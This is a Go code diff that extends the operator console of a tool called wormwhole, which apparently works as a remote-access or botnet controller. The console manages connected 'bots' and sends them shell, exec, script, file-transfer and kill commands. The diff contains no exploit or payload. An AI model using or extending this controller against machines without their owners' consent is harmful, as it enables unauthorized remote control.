@@ -2,8 +2,10 @@ package console
 
 import (
 	"bufio"
+	"encoding/json"
 	"fmt"
 	"github.com/fatih/color"
+	"github.com/google/uuid"
 	"github.com/prologic/bitcask"
 	"github.com/xorium/wormwhole/core"
 	"github.com/xorium/wormwhole/server"
@@ -24,8 +26,14 @@ const (
 
 const (
 	commandExpireTime = time.Hour
+	// time to get the result of the timed out command
+	commandTimeoutGrace = 30 * time.Second
 )
 
+// untimedCommands run until they're stopped by the user, so they don't
+// expire.
+var untimedCommands = map[string]bool{"shell": true, "tail": true}
+
 type Console struct {
 	*sync.RWMutex
 	Debug            bool
@@ -33,36 +41,50 @@ type Console struct {
 	reader           *bufio.Reader
 	currentBot       *server.Bot
 	currentState     int
+	foregroundCmd    string // ID of the command the input waits for
 	state            *bitcask.Bitcask
 	commandsHandlers map[*regexp.Regexp]func([]string) error
-	currentBotsList  []*server.Bot
+	currentBotsList  []*server.BotRecord
+	// streamed commands mapped to the flag if their output needs a
+	// trailing newline
+	streamedCommands map[string]bool
+	session          *ptySession
+	// ID of exec commands context on bots
+	sessionId string
 }
 
 func NewConsole(srv *server.CommandServer) *Console {
-	db, _ := bitcask.Open("wormwhole.db")
 	return &Console{
 		RWMutex:      new(sync.RWMutex),
 		srv:          srv,
 		reader:       bufio.NewReader(os.Stdin),
-		state:        db,
+		state:        srv.Store(),
 		currentState: stateReady,
+
+		streamedCommands: make(map[string]bool),
+		sessionId:        uuid.New().String(),
 	}
 }
 
 func (c *Console) startInterruptHandling() {
 	go func() {
-		sigChan := make(chan os.Signal)
+		sigChan := make(chan os.Signal, 1)
+		signal.Notify(sigChan, os.Interrupt)
 		for {
-			signal.Notify(sigChan, os.Interrupt)
 			<-sigChan
 
-			currentCommands := c.srv.ListCommands()
-			// TODO: send interrupt signal to client.
-			for _, command := range currentCommands {
-				command.SetState(core.CommandStateInterrupted)
+			for _, command := range c.srv.ListCommands() {
+				// the commands delivered from the queue run in background
+				if command.State() != core.CommandStateExecuting || command.QueuedAt != nil {
+					continue
+				}
+				if err := c.srv.CancelCommand(command.ID); err != nil && c.Debug {
+					log.Println("error while cancelling command: ", err)
+				}
 			}
 			c.Lock()
 			c.currentState = stateReady
+			c.foregroundCmd = ""
 			c.Unlock()
 			fmt.Println()
 			c.printCommandInvitation()
@@ -72,9 +94,7 @@ func (c *Console) startInterruptHandling() {
 
 func (c *Console) initServerHandlers() {
 	c.srv.SetOnConnect(func(bot *server.Bot) {
-		c.Lock()
-		c.currentBotsList = c.srv.ListBots()
-		c.Unlock()
+		c.refreshBotsList()
 		printer := color.New(color.FgHiGreen, color.Bold)
 		_, _ = printer.Printf("\n[+] bot connected: %s\n", bot.String())
 		c.printCommandInvitation()
@@ -83,17 +103,25 @@ func (c *Console) initServerHandlers() {
 	c.srv.SetOnDisconnect(func(bot *server.Bot) {
 		printer := color.New(color.FgHiRed, color.Bold)
 		_, _ = printer.Printf("\n[-] bot disconnected: %s\n", bot.String())
+		if session := c.currentSession(); session != nil && session.cmd.Target() == bot.ID {
+			session.finish()
+		}
+		c.refreshBotsList()
 		if c.currentBot != nil && c.currentBot.ID == bot.ID {
 			c.Lock()
-			c.currentBotsList = c.srv.ListBots()
 			c.currentBot = nil
 			c.currentState = stateReady
+			c.foregroundCmd = ""
 			c.Unlock()
 		}
 		c.printCommandInvitation()
 	})
 
 	c.srv.SetOnCommandRespHandler(func(cmd *core.Command, resp []byte) {
+		if cmd.Name == "shell" {
+			c.finishSession(cmd.ID)
+			return
+		}
 		if cmd.State() == core.CommandStateInterrupted {
 			if c.Debug {
 				log.Println("interrupted command: ", cmd)
@@ -101,16 +129,172 @@ func (c *Console) initServerHandlers() {
 			return
 		}
 		c.Lock()
-		c.currentState = stateReady
+		// the result of the queued command may come while the other
+		// command is running
+		if cmd.ID == c.foregroundCmd {
+			c.currentState = stateReady
+			c.foregroundCmd = ""
+		}
+		needNewline, streamed := c.streamedCommands[cmd.ID]
+		delete(c.streamedCommands, cmd.ID)
 		c.Unlock()
-		if cmd.State() == core.CommandStateFailed {
+		if !streamed {
+			c.printQueuedHeader(cmd)
+		}
+		if needNewline {
+			fmt.Println()
+		}
+		switch {
+		case cmd.Name == "exec" || cmd.Name == "script":
+			c.printExecResult(cmd, resp, streamed)
+		case cmd.State() == core.CommandStateFailed:
 			color.HiRed("command error: %s\n", string(resp))
-			c.printCommandInvitation()
-			return
+		case cmd.Name == "interpreters":
+			printInterpreters(resp)
+		case cmd.Name == "upload" || cmd.Name == "download":
+			printTransferResult(resp)
+		case isFileCommand(cmd.Name):
+			printFileResult(cmd, resp)
+		case cmd.Name == "facts":
+			printFacts(resp)
+		case cmd.Name == "kill":
+			printKillResult(resp)
+		case !streamed:
+			color.White(string(resp))
 		}
-		color.White(string(resp))
 		c.printCommandInvitation()
 	})
+
+	c.srv.SetOnSessionDataHandler(func(cmd *core.Command, data []byte) {
+		if session := c.currentSession(); session != nil && session.cmd.ID == cmd.ID {
+			_, _ = os.Stdout.Write(data)
+		}
+	})
+
+	c.srv.SetOnCommandChunkHandler(func(cmd *core.Command, chunk *core.Chunk) {
+		if cmd.State() == core.CommandStateInterrupted || len(chunk.Data) == 0 {
+			return
+		}
+		c.Lock()
+		_, streamed := c.streamedCommands[cmd.ID]
+		c.streamedCommands[cmd.ID] = chunk.Data[len(chunk.Data)-1] != '\n'
+		c.Unlock()
+		if !streamed {
+			c.printQueuedHeader(cmd)
+		}
+		if chunk.Stream == core.StreamStderr {
+			_, _ = color.New(color.FgHiRed).Print(string(chunk.Data))
+			return
+		}
+		_, _ = color.New(color.FgWhite).Print(string(chunk.Data))
+	})
+}
+
+// printQueuedHeader tells which bot the output of the command delivered
+// from the queue belongs to.
+func (c *Console) printQueuedHeader(cmd *core.Command) {
+	if cmd.QueuedAt == nil {
+		return
+	}
+	color.HiBlue(
+		"\nqueued at %s command %s of bot %s:",
+		cmd.QueuedAt.Local().Format("2006-01-02 15:04"), cmd.Name, c.botName(cmd.Target()),
+	)
+}
+
+func (c *Console) printExecResult(cmd *core.Command, resp []byte, streamed bool) {
+	result, err := core.ParseExecResult(resp)
+	if err != nil {
+		color.HiRed("command error: %s\n", string(resp))
+		return
+	}
+	if !result.Started() {
+		color.HiRed("command could not be started: %s", result.Error)
+		return
+	}
+	if !streamed {
+		color.White(result.Stdout)
+		if result.Stderr != "" {
+			color.HiRed(result.Stderr)
+		}
+	}
+	if result.StdoutTruncated || result.StderrTruncated {
+		color.HiYellow("output has been truncated")
+	}
+	switch {
+	case cmd.State() == core.CommandStateTimedOut:
+		color.HiRed("timed out after %s", result.Duration())
+	case result.Signal != "":
+		color.HiRed("killed by signal: %s (%s)", result.Signal, result.Duration())
+	case result.ExitCode != 0:
+		color.HiRed("exit code: %d (%s)", result.ExitCode, result.Duration())
+	case c.Debug:
+		log.Printf("command finished in %s\n", result.Duration())
+	}
+}
+
+func printInterpreters(resp []byte) {
+	var interpreters []core.Interpreter
+	if err := json.Unmarshal(resp, &interpreters); err != nil {
+		color.HiRed("incorrect interpreters list: %v", err)
+		return
+	}
+	if len(interpreters) == 0 {
+		color.HiYellow("no script interpreters available")
+		return
+	}
+	for _, interpreter := range interpreters {
+		color.White("%-10s %s", interpreter.Name, interpreter.Path)
+	}
+}
+
+func printTransferResult(resp []byte) {
+	var result core.TransferResult
+	if err := json.Unmarshal(resp, &result); err != nil {
+		color.HiRed("incorrect transfer result: %v", err)
+		return
+	}
+	if result.ResumedFrom > 0 {
+		color.White("resumed from %d bytes", result.ResumedFrom)
+	}
+	path := result.Path
+	if result.Source != "" {
+		path = result.Source + " -> " + path
+	}
+	color.White("%s: %d bytes, sha256 %s", path, result.Size, result.SHA256)
+}
+
+// refreshBotsList updates the list of the known bots the bot numbers
+// refer to.
+func (c *Console) refreshBotsList() []*server.BotRecord {
+	records, err := c.srv.KnownBots()
+	if err != nil {
+		log.Println("error while listing known bots: ", err)
+		return nil
+	}
+	c.Lock()
+	c.currentBotsList = records
+	c.Unlock()
+	return records
+}
+
+// listedBot returns the connected bot by its number in the bots list, or
+// the offline one if it's allowed.
+func (c *Console) listedBot(index int, allowOffline bool) (*server.Bot, error) {
+	c.RLock()
+	botsList := c.currentBotsList
+	c.RUnlock()
+	if index < 0 || index >= len(botsList) {
+		return nil, fmt.Errorf("index %d is out of range of state list", index)
+	}
+	bot := c.srv.Bot(botsList[index].ID)
+	if bot != nil {
+		return bot, nil
+	}
+	if allowOffline {
+		return botsList[index].OfflineBot(), nil
+	}
+	return nil, fmt.Errorf("bot %s is offline", botsList[index].String())
 }
 
 func (c *Console) getBotString(bot *server.Bot) string {
@@ -122,6 +306,14 @@ func (c *Console) getBotString(bot *server.Bot) string {
 	return botStr
 }
 
+// botName returns the alias of the bot or its ID.
+func (c *Console) botName(botId string) string {
+	if alias := c.getAlias(botId); alias != "" {
+		return alias
+	}
+	return botId
+}
+
 func (c *Console) getAlias(botId string) string {
 	alias, err := c.state.Get([]byte("alias:" + botId))
 	if err != nil {
@@ -156,12 +348,27 @@ func (c *Console) startCheckingExpiringCommands() {
 					c.srv.DeleteCommand(cmd.ID)
 					continue
 				}
+				if untimedCommands[cmd.Name] {
+					continue
+				}
 				cmdTime, err := strconv.ParseInt(cmd.ID, 10, 64)
 				if err != nil {
 					log.Println("can't parse command ID to time: ", err)
 					continue
 				}
-				if time.Duration(time.Now().UnixNano()-cmdTime) > commandExpireTime {
+				// the queued command is timed since its delivery
+				if cmd.SentAt != nil {
+					cmdTime = cmd.SentAt.UnixNano()
+				}
+				expireTime := commandExpireTime
+				if cmd.Timeout > 0 && cmd.Timeout+commandTimeoutGrace < expireTime {
+					expireTime = cmd.Timeout + commandTimeoutGrace
+				}
+				if time.Duration(time.Now().UnixNano()-cmdTime) > expireTime {
+					// the bot stops the command the console forgets
+					if err := c.srv.CancelCommand(cmd.ID); err != nil && c.Debug {
+						log.Println("error while cancelling expired command: ", err)
+					}
 					c.srv.DeleteCommand(cmd.ID)
 					color.Red("command %s %s has been expired", cmd.ID, cmd.Name)
 				}